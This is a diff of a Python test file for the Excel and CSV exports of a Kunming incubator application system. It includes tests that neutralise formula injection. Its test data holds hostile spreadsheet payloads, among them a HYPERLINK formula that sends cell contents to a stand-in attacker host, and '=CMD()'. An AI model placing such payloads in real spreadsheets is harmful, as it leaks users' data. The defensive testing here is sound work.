@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
 import subprocess
 import sys
@@ -27,12 +28,13 @@ from kmbase_workflow.exports import (
     recommendation_rows,
 )
 from kmbase_workflow.policy import load_policy
-from kmbase_workflow.records import Education, ResidentEnterprise, StaffMember
+from kmbase_workflow.records import Application, Education, ResidentEnterprise, StaffMember
 from kmbase_workflow.workflow import Workflow
 from lifecycle_helpers import (
     APPLICATION,
     BUREAU,
     DISTRICT,
+    GOOD_RECOMMENDATION,
     ROUND_CLOSES,
     ROUND_OPENS,
     Harness,
@@ -232,15 +234,6 @@ def tables(tmp_path: Path) -> Path:
     return path
 
 
-def test_one_sheet_per_table(tables: Path) -> None:
-    assert openpyxl.load_workbook(tables).sheetnames == [
-        "管理和专职服务人员情况表",
-        "入驻企业（项目）名录表",
-        "开展服务活动情况表",
-        "入驻小微企业服务满意度评价表",
-    ]
-
-
 def test_staff_sheet(tables: Path) -> None:
     rows = rows_of(tables, "管理和专职服务人员情况表")
     assert rows[0][0] == "管理和专职服务人员情况表"
@@ -302,23 +295,21 @@ def test_activities_sheet_has_one_row_per_service_function(tables: Path) -> None
     ]
     functions = load_policy(APPLICATION.declared_on).service_functions.functions
     body = rows[3 : 3 + len(functions)]
-    assert [row[1] for row in body] == [function.name.zh for function in functions]
+    assert [row[1] for row in body] == FORM_SERVICES
     assert body[0] == [
         1,
         "信息服务",
         "线上服务平台与线下信息对接会",
         9,
         "服务企业86家次",
-        None,
+        "上一年度服务共 420 次，其中公益性服务或低收费服务 126 次，占 30.0%",
         None,
     ]
     training = body[[f.id for f in functions].index("training")]
     assert training[3:5] == [15, "培训420人次"]
     consulting = body[[f.id for f in functions].index("management_consulting")]
     assert consulting[3:5] == [None, "服务企业19家次"]
-    assert rows[3 + len(functions)][0] == (
-        "注：上一年度服务共 420 次，其中公益性服务或低收费服务 126 次，占 30.0%"
-    )
+    assert len(rows) == 3 + len(functions)  # the free services are in their column, no note
 
 
 def test_activities_of_an_application_without_some_services(tmp_path: Path) -> None:
@@ -326,8 +317,9 @@ def test_activities_of_an_application_without_some_services(tmp_path: Path) -> N
     export_application_tables(ineligible_application(), path)
     rows = rows_of(path, "开展服务活动情况表")
     by_type = {row[1]: row for row in rows[3:11]}
-    assert by_type["创业辅导服务"][2:] == [None] * 5
-    assert by_type["人员培训服务"][3:5] == [None, "培训320人次"]
+    assert by_type["创业辅导"][2:5] == [None] * 3
+    assert by_type["创业辅导"][6] is None
+    assert by_type["人员培训"][3:5] == [None, "培训320人次"]
 
 
 def test_satisfaction_sheet(tables: Path) -> None:
@@ -589,7 +581,7 @@ def test_every_bad_cell_of_a_csv_is_reported_with_row_and_column(tmp_path: Path)
         "入驻企业（项目）名录表 row 5, column G (上年度销售收入（万元）): must not be negative, got -1.0",
         "入驻企业（项目）名录表 row 6, column D (从业人员数（人）): required, must not be empty",
         "入驻企业（项目）名录表 row 6, column F (主营业务是否属于主导产业): required, must not be empty",
-        '入驻企业（项目）名录表 row 6, column G (上年度销售收入（万元）): expected a number, got "inf"',
+        '入驻企业（项目）名录表 row 6, column G (上年度销售收入（万元）): expected a finite number (not infinity or NaN), got "inf"',
         "入驻企业（项目）名录表 row 6, column B (企业名称): must not be empty",
     ]
 
@@ -721,3 +713,484 @@ def test_importing_the_library_does_not_import_openpyxl() -> None:
         "assert 'openpyxl' not in sys.modules, 'openpyxl imported'"
     )
     subprocess.run([sys.executable, "-c", code], check=True)
+
+
+# -- data is never code (issue 12: safe exports) ---------------------------------------------
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+HOSTILE = (HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A9)", "=1", "#N/A", "#DIV/0!", "\t=1")
+"""Text an attacker might type: formulas, Excel's error codes, a leading tab."""
+
+
+def hostile_application() -> Application:
+    """The eligible application with a formula or an error code in every kind of text field."""
+    a = APPLICATION
+    h = iter(HOSTILE * 20)
+    staff = (
+        tuple(
+            attrs.evolve(
+                member,
+                name=next(h),
+                position=next(h),
+                school_and_major=next(h),
+                qualification=next(h),
+                qualification_issuer=next(h),
+                phone=next(h),
+            )
+            for member in a.staff[:3]
+        )
+        + a.staff[3:]
+    )
+    residents = (
+        attrs.evolve(
+            a.residents[0],
+            name=HYPERLINK,
+            main_business="=1",
+            industry="@x",
+            contact_person="+1",
+            contact_phone="-1",
+        ),
+        *a.residents[1:],
+    )
+    services = {
+        key: attrs.evolve(figures, description=HYPERLINK) for key, figures in a.services.items()
+    }
+    survey = (
+        attrs.evolve(
+            a.satisfaction_survey[0],
+            enterprise=HYPERLINK,
+            services="=1",
+            contact_person="+1",
+            contact_phone="-1",
+        ),
+        *a.satisfaction_survey[1:],
+    )
+    agencies = tuple(attrs.evolve(agency, name=HYPERLINK) for agency in a.agencies)
+    return attrs.evolve(
+        a,
+        base=attrs.evolve(
+            a.base,
+            name=HYPERLINK,
+            address="=A1",
+            contact_person="+1",
+            contact_phone="-1",
+            facilities="@x",
+            website="=x",
+            email="#N/A",
+            leading_industries=("=1", *a.base.leading_industries[1:]),
+        ),
+        operator=attrs.evolve(
+            a.operator,
+            name="=CMD()",
+            legal_representative="@x",
+            nature="-1",
+            registered_address="+1",
+        ),
+        staff=staff,
+        residents=residents,
+        services=services,
+        satisfaction_survey=survey,
+        agencies=agencies,
+        qualifications="=1",
+        government_support="=2",
+        honours="=3",
+    )
+
+
+def formula_cells(path: Path) -> list[str]:
+    """Every cell of every sheet that is a formula or an error, as SHEET!A1."""
+    workbook = openpyxl.load_workbook(path)
+    return [
+        f"{sheet.title}!{cell.coordinate}"
+        for sheet in workbook.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if cell.data_type in ("f", "e")
+    ]
+
+
+def all_values(path: Path) -> set[object]:
+    workbook = openpyxl.load_workbook(path)
+    return {
+        cell.value
+        for sheet in workbook.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if cell.value is not None
+    }
+
+
+def test_application_tables_write_every_cell_from_data_as_text(tmp_path: Path) -> None:
+    path = tmp_path / "附件1.xlsx"
+    export_application_tables(hostile_application(), path)
+    assert formula_cells(path) == []
+    values = all_values(path)
+    for text in (HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A9)", "#N/A", "#DIV/0!"):
+        assert text in values
+
+
+def test_recommendation_table_writes_every_cell_from_data_as_text(tmp_path: Path) -> None:
+    h = harness()
+    hostile = hostile_application()
+    step_case(h, "a", "declare", hostile)
+    h.workflow.recommend(
+        "a",
+        DISTRICT,
+        attrs.evolve(GOOD_RECOMMENDATION, opinion="=1+1"),
+    )
+    step_case(h, "b", "declare", other_base("=2+2"))
+    h.workflow.decline("b", DISTRICT, "@SUM(1)")
+    path = tmp_path / "推荐汇总表.xlsx"
+    export_recommendation_table(
+        h.workflow, "五华区", 2025, path, filled_by="=x", phone="+1", unit="=y"
+    )
+    assert formula_cells(path) == []
+    values = all_values(path)
+    assert {HYPERLINK, "=1+1", "=2+2", "@SUM(1)", "=CMD()", "=A1", "+1", "-1"} <= values
+
+
+@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", HYPERLINK])
+def test_csv_neutralises_a_leading_formula_character(text: str, tmp_path: Path) -> None:
+    member = attrs.evolve(APPLICATION.staff[0], name=text, position=text)
+    application = attrs.evolve(APPLICATION, staff=(member,))
+    path = tmp_path / "staff.csv"
+    export_staff(application, path)
+    with path.open(encoding="utf-8-sig", newline="") as handle:
+        rows = list(csv.reader(handle))
+    assert rows[1][1] == "'" + text
+    assert rows[1][2] == "'" + text
+    # What the guard added, the reader takes away: the table reads back as it was.
+    assert read_staff(path) == (member,)
+
+
+def test_csv_leaves_ordinary_text_and_numbers_alone(tmp_path: Path) -> None:
+    path = tmp_path / "roster.csv"
+    export_roster(APPLICATION, path)
+    text = path.read_text(encoding="utf-8-sig")
+    assert "'" not in text
+
+
+# -- numbers that are not numbers (issue 11) -------------------------------------------------
+
+NOT_FINITE = ["1e999", "-1e999", "1E400", "nan", "inf", "Infinity", "-inf"]
+
+
+def test_csv_cells_that_are_not_finite_numbers_are_refused_with_row_and_column(
+    tmp_path: Path,
+) -> None:
+    lines = [f"{ROSTER_CSV_HEADER},上年度销售收入（万元）"]
+    lines += [f"{n},公司{n},2020-01-02,5,电子信息,是,{text}" for n, text in enumerate(NOT_FINITE)]
+    lines.append(f"9,大公司,2020-01-02,{'9' * 5000},电子信息,是,1")
+    problems = problems_of(write(tmp_path / "r.csv", "\n".join(lines) + "\n"))
+    assert len(problems) == len(NOT_FINITE) + 1
+    for row, text in enumerate(NOT_FINITE, start=2):
+        assert problems[row - 2] == (
+            f"入驻企业（项目）名录表 row {row}, column G (上年度销售收入（万元）): "
+            f'expected a finite number (not infinity or NaN), got "{text}"'
+        )
+    assert problems[-1].startswith(
+        f"入驻企业（项目）名录表 row {len(NOT_FINITE) + 2}, column D (从业人员数（人）): "
+        "expected an integer"
+    )
+
+
+def _with_raw_numbers(path: Path, raw: dict[str, str]) -> None:
+    """Put numbers openpyxl will not write (``1e999``) into a workbook's first sheet."""
+    import zipfile
+
+    with zipfile.ZipFile(path) as source:
+        members = {name: source.read(name) for name in source.namelist()}
+    sheet = "xl/worksheets/sheet1.xml"
+    xml = members[sheet].decode()
+    for placeholder, number in raw.items():
+        xml = xml.replace(f"<v>{placeholder}</v>", f"<v>{number}</v>")
+    members[sheet] = xml.encode()
+    with zipfile.ZipFile(path, "w") as target:
+        for name, data in members.items():
+            target.writestr(name, data)
+
+
+def test_xlsx_cells_that_are_not_finite_numbers_are_refused(tmp_path: Path) -> None:
+    workbook = openpyxl.Workbook()
+    sheet = workbook.active
+    assert sheet is not None
+    sheet.append(["姓名", "岗位", "学历", "在基地工作年限（年）"])
+    sheet.append(["张三", "主任", "本科", 111111])
+    sheet.append(["李四", "主任", "本科", "1e999"])
+    sheet.append(["王五", "主任", "本科", "nan"])
+    path = tmp_path / "staff.xlsx"
+    workbook.save(path)
+    _with_raw_numbers(path, {"111111": "1e999"})
+    problems = problems_of(path, read_staff)
+    assert [problem.split(": ", 1)[0] for problem in problems] == [
+        f"Sheet row {row}, column D (在基地工作年限（年）)" for row in (2, 3, 4)
+    ]
+    assert all("expected a finite number" in problem for problem in problems)
+
+
+def test_xlsx_number_cells_openpyxl_cannot_parse_are_a_format_error(tmp_path: Path) -> None:
+    workbook = openpyxl.Workbook()
+    sheet = workbook.active
+    assert sheet is not None
+    sheet.append(["姓名", "岗位", "学历", "在基地工作年限（年）"])
+    sheet.append(["张三", "主任", "本科", 1])
+    sheet.append(["李四", "主任", "本科", 222222])
+    path = tmp_path / "staff.xlsx"
+    workbook.save(path)
+    _with_raw_numbers(path, {"222222": "NaN"})
+    assert problems_of(path, read_staff) == [
+        "Sheet: a cell in row 3 or below cannot be read "
+        "(invalid literal for int() with base 10: 'NaN')"
+    ]
+
+
+# -- 申请表: the first form of 附件1 (issue 12, Forms) ---------------------------------------
+
+FORM_LABELS = [
+    "昆明市小型微型企业创业创新示范基地申请表",
+    "一、基地基本情况",
+    "基地名称",
+    "所属县区",
+    "主导产业",
+    "主营业务属于主导产业的入驻企业数（户）",
+    "运营单位名称",
+    "单位性质",
+    "法人代表",
+    "注册日期",
+    "注册地址",
+    "联系人",
+    "联系电话（手机）",
+    "网址及备案号",
+    "邮箱",
+    "基地基础设施及场地面积",
+    "服务人员",
+    "二、入驻小微企业创业创新情况",
+    "（一）小微企业创业情况（最少填写两个年度，单位：户、人、万元）",
+    "年度",
+    "入驻企业户数",
+    "入驻小微企业户数",
+    "小微企业从业人员",
+    "小微企业合计营业收入",
+    "（二）小微企业创新情况（最少填写两个年度，单位：件、户、个）",
+    "可统计创新成果项目合计",
+    "基地内小微企业专利申请",
+    "基地内小微企业拥有专利",
+    "（其他科技成果自行统计填写，需按认定管理办法规定内容分类）",
+    "三、服务能力及业绩",
+    "获得专业资质情况",
+    "服务内容",
+    "服务企业户数",
+    "相关服务活动场次",
+    "信息服务",
+    "创业辅导",
+    "创新支持",
+    "人员培训",
+    "市场营销",
+    "投融资服务",
+    "管理咨询",
+    "专业服务",
+    "签约合作服务机构",
+    "签订合作协议的单位",
+    "其他合作单位",
+    "四、获得支持情况",
+    "得到政府扶持的情况",
+    "各级政府或省级行业协会授予称号、荣誉",
+    "县（市）区、开发（度假）区中小企业主管部门审查推荐意见：",
+]
+"""Every label of 昆明市小型微型企业创业创新示范基地申请表, as the regulation's 附件1 prints it."""
+
+FORM_SERVICES = [
+    "信息服务",
+    "创业辅导",
+    "创新支持",
+    "人员培训",
+    "市场营销",
+    "投融资服务",
+    "管理咨询",
+    "专业服务",
+]
+"""The service rows of 开展服务活动情况表 and 申请表 三, in the form's words."""
+
+
+def form_rows(path: Path) -> list[list[object]]:
+    return rows_of(path, "申请表")
+
+
+def right_of(rows: list[list[object]], label: str, nth: int = 0) -> object:
+    """The first value to the right of the ``nth`` cell that holds ``label``."""
+    found = [(row, index) for row in rows for index, cell in enumerate(row) if cell == label]
+    row, index = found[nth]
+    return next(cell for cell in row[index + 1 :] if cell is not None)
+
+
+def below(rows: list[list[object]], label: str) -> list[list[object]]:
+    """The rows after the first row that starts with ``label``, up to the next empty first cell."""
+    start = next(i for i, row in enumerate(rows) if row[0] == label)
+    body = []
+    for row in rows[start + 1 :]:
+        if row[0] is None or not isinstance(row[0], int):
+            break
+        body.append(row)
+    return body
+
+
+def test_the_application_form_is_the_first_sheet(tables: Path) -> None:
+    assert openpyxl.load_workbook(tables).sheetnames == [
+        "申请表",
+        "管理和专职服务人员情况表",
+        "入驻企业（项目）名录表",
+        "开展服务活动情况表",
+        "入驻小微企业服务满意度评价表",
+    ]
+
+
+def test_the_application_form_uses_every_label_of_the_form(tables: Path) -> None:
+    values = {cell for row in form_rows(tables) for cell in row}
+    missing = [label for label in FORM_LABELS if label not in values]
+    assert not missing
+
+
+def test_the_application_form_part_one_base(tables: Path) -> None:
+    rows = form_rows(tables)
+    a = APPLICATION
+    assert rows[0][0] == "昆明市小型微型企业创业创新示范基地申请表"
+    assert right_of(rows, "基地名称") == a.base.name
+    assert right_of(rows, "所属县区") == "五华区"
+    assert right_of(rows, "主导产业") == "电子信息、软件及信息技术服务"
+    assert right_of(rows, "主营业务属于主导产业的入驻企业数（户）") == sum(
+        1 for r in a.residents if r.in_leading_industry
+    )
+    assert right_of(rows, "运营单位名称") == a.operator.name
+    assert right_of(rows, "单位性质") == "有限责任公司"
+    assert right_of(rows, "法人代表") == "王芳"
+    assert right_of(rows, "注册日期") == dt.datetime(2018, 11, 12)
+    assert right_of(rows, "注册地址") == a.operator.registered_address
+    assert right_of(rows, "联系人") == "李明"
+    assert right_of(rows, "联系电话（手机）") == "13800000000"
+    assert right_of(rows, "网址及备案号") == a.base.website
+    assert right_of(rows, "邮箱") == a.base.email
+    assert right_of(rows, "基地基础设施及场地面积") == f"主要基础设施：{a.base.facilities}"
+    assert "总场地面积：12500 平方米，其中：公共服务区域面积 2100 平方米" in {
+        cell for row in rows for cell in row
+    }
+    full_time = [m for m in a.staff if m.full_time_service]
+    qualified = [
+        m for m in full_time if m.education.bachelor_or_above or m.intermediate_title_or_above
+    ]
+    mentors = sum(1 for m in a.staff if m.startup_mentor)
+    share = f"{len(qualified) / len(full_time):.1%}"
+    assert right_of(rows, "服务人员") == (
+        f"{len(full_time)} 人，其中：本科及以上学历和中级及以上职称 {len(qualified)} 人，"
+        f"占总人数 {share}，创业导师 {mentors} 人"
+    )
+
+
+def test_the_application_form_part_two_yearly_tables(tables: Path) -> None:
+    rows = form_rows(tables)
+    startups = next(i for i, row in enumerate(rows) if row[0] == "年度")
+    assert rows[startups][:5] == [
+        "年度",
+        "入驻企业户数",
+        "入驻小微企业户数",
+        "小微企业从业人员",
+        "小微企业合计营业收入",
+    ]
+    assert [row[:5] for row in below(rows, "年度")] == [
+        [2023, 58, 52, 780, 21000],
+        [2024, 66, 60, 905, 25400],
+    ]
+    innovation = [i for i, row in enumerate(rows) if row[0] == "年度"][1]
+    assert rows[innovation][:4] == [
+        "年度",
+        "可统计创新成果项目合计",
+        "基地内小微企业专利申请",
+        "基地内小微企业拥有专利",
+    ]
+    assert [row[:4] for row in rows[innovation + 1 : innovation + 3]] == [
+        [2023, 40, 25, 60],
+        [2024, 47, 31, 78],
+    ]
+
+
+def test_the_application_form_part_three_services_and_agencies(tables: Path) -> None:
+    rows = form_rows(tables)
+    header = next(i for i, row in enumerate(rows) if row[0] == "服务内容")
+    assert rows[header] == ["服务内容", "服务企业户数", "相关服务活动场次"] * 2
+    assert rows[header + 1 : header + 5] == [
+        ["信息服务", 86, 9, "创业辅导", 41, 12],
+        ["创新支持", 18, 7, "人员培训", None, 15],
+        ["市场营销", 25, 3, "投融资服务", 22, 3],
+        ["管理咨询", 19, None, "专业服务", 33, None],
+    ]
+    assert right_of(rows, "获得专业资质情况") == "国家级科技企业孵化器"
+    assert "上一年度营业收入 1860 万元，减免小微企业各类服务费用 96.5 万元。" in {
+        cell for row in rows for cell in row
+    }
+    agencies = next(i for i, row in enumerate(rows) if row[0] == "签约合作服务机构")
+    signed = rows[agencies + 1][1]
+    assert signed == "\n".join(agency.name for agency in APPLICATION.agencies)
+    assert right_of(rows, "得到政府扶持的情况") == "2023年省级中小企业发展专项资金"
+    assert right_of(rows, "各级政府或省级行业协会授予称号、荣誉") == (
+        "云南省小型微型企业创业创新示范基地（2023）"
+    )
+
+
+def test_the_application_form_of_a_recommended_case_holds_the_districts_opinion(
+    round_2025: Harness, tmp_path: Path
+) -> None:
+    path = tmp_path / "case.xlsx"
+    export_application_tables(round_2025.workflow.case("a"), path)
+    rows = form_rows(path)
+    heading = next(i for i, row in enumerate(rows) if row[0] == FORM_LABELS[-1])
+    assert rows[heading + 1][0] == "同意推荐"
+    export_application_tables(APPLICATION, path)
+    rows = form_rows(path)
+    assert rows[heading + 1][0] is None
+
+
+def test_a_sparse_application_leaves_the_form_blank_where_the_data_is(tmp_path: Path) -> None:
+    sparse = attrs.evolve(
+        ineligible_application(),
+        agencies=(),
+        services={},
+        revenue_last_year_10k_yuan=None,
+        fee_reductions_10k_yuan=None,
+        staff=(),
+    )
+    path = tmp_path / "sparse.xlsx"
+    export_application_tables(sparse, path)
+    rows = form_rows(path)
+    values = {cell for row in rows for cell in row}
+    assert "上一年度营业收入 　 万元，减免小微企业各类服务费用 　 万元。" in values
+    assert right_of(rows, "服务人员").startswith(
+        "0 人，其中：本科及以上学历和中级及以上职称 0 人，占总人数 　，"
+    )  # type: ignore[union-attr]
+    header = next(i for i, row in enumerate(rows) if row[0] == "服务内容")
+    assert rows[header + 1] == ["信息服务", None, None, "创业辅导", None, None]
+
+
+def test_activities_use_the_forms_labels_and_fill_the_free_service_column(tables: Path) -> None:
+    rows = rows_of(tables, "开展服务活动情况表")
+    body = rows[3:11]
+    assert [row[1] for row in body] == FORM_SERVICES
+    assert body[0][5] == "上一年度服务共 420 次，其中公益性服务或低收费服务 126 次，占 30.0%"
+    sheet = openpyxl.load_workbook(tables)["开展服务活动情况表"]
+    assert "F4:F11" in {str(merged) for merged in sheet.merged_cells.ranges}
+
+
+def test_text_that_starts_like_a_formula_carries_the_quote_prefix(tmp_path: Path) -> None:
+    path = tmp_path / "附件1.xlsx"
+    export_application_tables(hostile_application(), path)
+    staff = openpyxl.load_workbook(path)["管理和专职服务人员情况表"]
+    cells = {cell.value: cell for row in staff.iter_rows() for cell in row if cell.value}
+    assert cells[HYPERLINK].quotePrefix
+    assert cells["+1+1"].quotePrefix
+    assert not cells["#N/A"].quotePrefix  # text all the same, but Excel would not run it
+    assert not cells["序号"].quotePrefix
+
+
+def test_control_characters_are_written_as_replacement_characters(tmp_path: Path) -> None:
+    bell = attrs.evolve(APPLICATION, base=attrs.evolve(APPLICATION.base, name="园区\x07\x00一"))
+    path = tmp_path / "附件1.xlsx"
+    export_application_tables(bell, path)
+    assert right_of(form_rows(path), "基地名称") == "园区\ufffd\ufffd一"
